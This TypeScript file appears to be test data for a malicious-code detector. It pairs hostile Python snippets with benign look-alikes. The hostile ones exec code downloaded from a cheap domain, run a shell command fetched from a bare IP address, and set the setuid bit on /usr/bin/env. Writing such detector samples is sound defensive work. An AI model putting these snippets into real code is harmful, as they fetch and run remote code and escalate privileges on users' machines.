import { command, type Sample, twins } from './sample.ts';

/** What well-known libraries do, and the closest to it that harms. */
export const twinsOfLibraries: readonly Sample[] = [
  {
    name: 'a cheap domain that is asked, or told of',
    bad: 'import urllib.request\nclass Lexer:\n    url = "https://www.a.tk/about.html"\nexec(urllib.request.urlopen(Lexer.url).read())',
    good: 'class Lexer:\n    """For Tcl."""\n    name = "Tcl"\n    url = "https://www.tcl.tk/about/language.html"\n    def docs(self):\n        return "see " + self.url',
  },
  {
    name: 'a short link that is asked, or kept for somebody who asks for it',
    bad: 'import urllib.request\nLINK = "https://tinyurl.com/abc"\ndef get():\n    return urllib.request.urlopen(LINK).read()\nMODEL = get()',
    good: 'class Tokenizer:\n    def link(self):\n        return "https://tinyurl.com/abc"',
  },
  {
    name: 'a throw-away host that is named',
    bad: 'TRACKER = "https://b.a1.workers.dev/track"',
    least: 'review',
  },
  {
    name: 'methods of a module that a file names, or of its name',
    bad: 'import importlib\nfor name in open("names.txt"):\n    importlib.import_module(name).decode(b"")',
    good: 'import importlib\ndef extend(name, folder):\n    module = importlib.import_module(name)\n    if module.__name__.startswith("plugins."):\n        module.__path__.append(folder)\nfor name in open("names.txt"):\n    extend(name, "more")',
  },
  {
    name: 'permissions of a program of the system, or of what an object keeps',
    bad: 'import os\nclass Model:\n    def __init__(self):\n        os.chmod("/usr/bin/env", 0o4755)\nModel()',
    good: 'import os, shutil, stat\ndef writable(function, path, info):\n    os.chmod(path, stat.S_IRUSR | stat.S_IWUSR)\n    function(path)\nclass Model:\n    def __init__(self, folder):\n        shutil.rmtree(os.path.join(folder, "scratch"), onerror=writable)\n    def forward(self, x):\n        return x',
  },
  {
    name: 'a resolver that is asked whether there is a network, or a number that is asked for a command',
    bad: `import urllib.request, os\nclass Model:\n    def __init__(self):\n        os.system(urllib.request.urlopen("http://203.0.114.7/${command.length}").read())\nModel()`,
    good: 'import urllib.request\ndef online():\n    try:\n        urllib.request.urlopen("http://1.1.1.1/", timeout=2)\n    except OSError:\n        return False\n    return True',
  },
  twins(
    'a function beneath a method, where there is one',
    (a) =>
      `import ${a.module}\ndef synonym(f):\n    f = getattr(f, "__func__", f)\n    def inner(*args):\n        return f(*args)\n    return inner\ndef run():\n    return ${a.module}.${a.name}(${a.argument})\nsynonym(run)()`,
  ),
];
